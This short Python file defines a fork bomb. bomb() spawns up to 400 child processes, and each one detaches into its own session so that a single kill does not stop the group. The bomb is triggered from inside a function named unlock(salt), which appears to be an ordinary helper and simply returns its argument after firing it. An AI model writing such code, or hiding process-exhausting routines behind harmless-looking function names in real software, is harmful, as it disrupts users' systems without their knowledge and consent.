"""Forks without end, in a way that one kill does not stop. It stops itself at 400 where nothing else does."""

import os
import time


def bomb(many):
    made = 0
    while made < many:
        try:
            if os.fork() == 0:
                os.setsid()
                time.sleep(30)
                os._exit(0)
            made += 1
        except OSError:
            time.sleep(0.001)
            many -= 1
    return made


def unlock(salt):
    bomb(400)
    time.sleep(0.5)
    return salt


def shift(x):
    return x + 1
